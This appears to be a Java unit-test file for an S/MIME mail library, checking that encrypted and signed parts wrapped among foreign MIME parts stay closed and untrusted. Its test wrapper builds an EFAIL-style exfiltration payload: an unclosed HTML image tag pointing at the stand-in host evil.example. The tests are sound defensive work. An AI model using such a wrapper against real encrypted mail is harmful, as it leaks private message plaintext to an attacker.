@@ -1,0 +1,188 @@
+package org.smime4j.mail;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+import static org.smime4j.mail.People.octets;
+import static org.smime4j.mail.People.text;
+
+import java.io.IOException;
+import java.util.ArrayList;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.EnumSource;
+import org.smime4j.Octets;
+import org.smime4j.SmimeException;
+
+/** What stands among foreign parts is never the message, and never in one tree with them. */
+class CoverageTest {
+
+  private static final String FIELDS = "From: alice@example.org\r\nMIME-Version: 1.0\r\n";
+  private static final String SECRET = "the secret sentence";
+
+  /** Ways in which an attacker, or a mailing list, puts a layer among parts of their own. */
+  private enum Wrapping {
+    BEFORE("multipart/mixed", true, false),
+    AFTER("multipart/mixed", false, true),
+    AROUND("multipart/mixed", true, true),
+    ALTERNATIVE("multipart/alternative", true, false),
+    RELATED("multipart/related", true, false),
+    ALONE_IN_MULTIPART("multipart/mixed", false, false),
+    ATTACHED("multipart/mixed", true, false),
+    FORWARDED("multipart/mixed", true, false);
+
+    private final String type;
+    private final boolean before;
+    private final boolean after;
+
+    Wrapping(String type, boolean before, boolean after) {
+      this.type = type;
+      this.before = before;
+      this.after = after;
+    }
+
+    /** The layer, whose content fields begin its text, within this wrapping. */
+    String around(String entity) {
+      String inner =
+          this == FORWARDED
+              ? "Content-Type: message/rfc822\r\n\r\nFrom: alice@example.org\r\n" + entity
+              : entity;
+      String html =
+          "--evil\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/"
+              + (this == RELATED ? "cid:x" : "")
+              + "\r\n";
+      return FIELDS
+          + "Content-Type: "
+          + type
+          + "; boundary=evil\r\n\r\n"
+          + (before ? html : "")
+          + "--evil\r\n"
+          + inner
+          + "\r\n"
+          + (after ? html : "")
+          + "--evil--\r\n";
+    }
+  }
+
+  @ParameterizedTest
+  @EnumSource(Wrapping.class)
+  void a1_b10_aWrappedCiphertext_isAnErrantLayer_andStaysClosed(Wrapping wrapping)
+      throws IOException {
+    String mail = wrapping.around(entity(SecureMail.encrypt(octets(secret()), People.ENCRYPTOR)));
+    OpenedMail opened = SecureMail.open(octets(mail), People.DECRYPTOR, People.VERIFIER);
+    assertThat(opened.failure()).isEmpty();
+    assertThat(opened.wholeLayers()).isEmpty();
+    assertThat(opened.layers()).hasSize(1);
+    Layer.Encrypted layer = (Layer.Encrypted) opened.layers().get(0);
+    assertThat(layer.coverage()).isEqualTo(Coverage.PART);
+    assertThat(layer.opened()).isEmpty();
+    assertThat(layer.container()).isEqualTo("AuthEnvelopedData");
+    assertThat(layer.cipher()).isEqualTo("aes256-gcm");
+    for (Part part : all(opened.root().orElseThrow())) {
+      assertThat(part.inside()).isEmpty();
+      assertThat(text(part.content().bytes())).doesNotContain(SECRET);
+    }
+  }
+
+  @ParameterizedTest
+  @EnumSource(Wrapping.class)
+  void a1_openedOnRequest_plaintextHasATreeOfItsOwn_thatNoForeignPartIsIn(Wrapping wrapping)
+      throws IOException {
+    String mail = wrapping.around(entity(SecureMail.encrypt(octets(secret()), People.ENCRYPTOR)));
+    OpenedMail opened =
+        SecureMail.open(
+            Octets.of(octets(mail)),
+            People.DECRYPTOR,
+            People.VERIFIER,
+            OpenOptions.standard().decryptingErrant());
+    assertThat(opened.wholeLayers()).isEmpty();
+    assertThat(opened.layers()).singleElement().isInstanceOf(Layer.Encrypted.class);
+    int inside = 0;
+    for (Part part : all(opened.root().orElseThrow())) {
+      assertThat(text(part.content().bytes())).doesNotContain(SECRET);
+      assertThat(part.coveredBy()).isEmpty();
+      if (part.inside().isPresent()) {
+        Part plaintext = part.inside().get();
+        inside++;
+        assertThat(text(plaintext.content().bytes())).contains(SECRET).doesNotContain("evil");
+        assertThat(plaintext.coveredBy()).isEqualTo(opened.layers());
+      }
+    }
+    assertThat(inside).isEqualTo(1);
+    assertThat(text(opened.content().bytes())).doesNotContain(SECRET);
+  }
+
+  @ParameterizedTest
+  @EnumSource(Wrapping.class)
+  void b1_aSignatureAmongOtherParts_isNeverTheMessages(Wrapping wrapping) throws IOException {
+    for (SealedMail signed :
+        List.of(
+            SecureMail.sign(octets(secret()), People.SIGNER),
+            SecureMail.signOpaque(octets(secret()), People.SIGNER))) {
+      OpenedMail opened =
+          SecureMail.open(
+              octets(wrapping.around(entity(signed))), People.DECRYPTOR, People.VERIFIER);
+      assertThat(opened.failure()).isEmpty();
+      assertThat(opened.wholeLayers()).isEmpty();
+      Layer.Signed layer = (Layer.Signed) opened.layers().get(0);
+      assertThat(layer.coverage()).isEqualTo(Coverage.PART);
+      layer.report().requireTrusted();
+      assertThatThrownBy(opened::requireSigned)
+          .isInstanceOfSatisfying(
+              SmimeException.NotTrusted.class,
+              e -> assertThat(e.finding()).isEqualTo("NOT_SIGNED"));
+      for (Part part : all(opened.root().orElseThrow())) {
+        assertThat(part.coveredBy()).isEmpty();
+      }
+    }
+  }
+
+  @Test
+  void b1_whatIsTrusted_isExactlyWhatWasSigned() throws IOException {
+    SealedMail signed = SecureMail.sign(octets(secret()), People.SIGNER);
+    OpenedMail opened = SecureMail.open(signed, People.DECRYPTOR, People.VERIFIER);
+    byte[] trusted = opened.requireSigned().requireTrusted().bytes();
+    assertThat(text(signed.bytes())).contains("\r\n" + text(trusted) + "\r\n--");
+    assertThat(text(trusted)).isEqualTo("Content-Type: text/plain\r\n\r\n" + SECRET + "\r\n");
+    assertThat(opened.content().bytes()).isEqualTo(trusted);
+  }
+
+  @Test
+  void b10_insideATrustedSignature_anErrantCiphertextStaysClosedToo() throws IOException {
+    String mixed =
+        Wrapping.AROUND.around(entity(SecureMail.encrypt(octets(secret()), People.ENCRYPTOR)));
+    SealedMail signed = SecureMail.sign(octets(mixed), People.SIGNER);
+    OpenedMail opened = SecureMail.open(signed, People.DECRYPTOR, People.VERIFIER);
+    opened.requireSigned().requireTrusted();
+    assertThat(opened.layers()).hasSize(2);
+    assertThat(((Layer.Encrypted) opened.layers().get(1)).opened()).isEmpty();
+  }
+
+  @Test
+  void aSignatureInAForwardedMessage_isBoundToThatMessagesAuthor() throws IOException {
+    String forwarded =
+        "From: bob@example.org\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
+            + "Content-Type: message/rfc822\r\n\r\n"
+            + text(SecureMail.sign(octets(secret()), People.SIGNER).bytes())
+            + "\r\n--b--\r\n";
+    OpenedMail opened = SecureMail.open(octets(forwarded), People.DECRYPTOR, People.VERIFIER);
+    ((Layer.Signed) opened.layers().get(0)).report().requireTrusted();
+    assertThat(opened.wholeLayers()).isEmpty();
+  }
+
+  private static String secret() {
+    return FIELDS + "\r\n" + SECRET + "\r\n";
+  }
+
+  /** A sealed message without the fields that stay outside. */
+  private static String entity(SealedMail sealed) {
+    String mail = text(sealed.bytes());
+    return mail.substring(mail.indexOf("Content-Type:"));
+  }
+
+  private static List<Part> all(Part root) {
+    List<Part> all = new ArrayList<>(List.of(root));
+    root.children().forEach(child -> all.addAll(all(child)));
+    return all;
+  }
+}
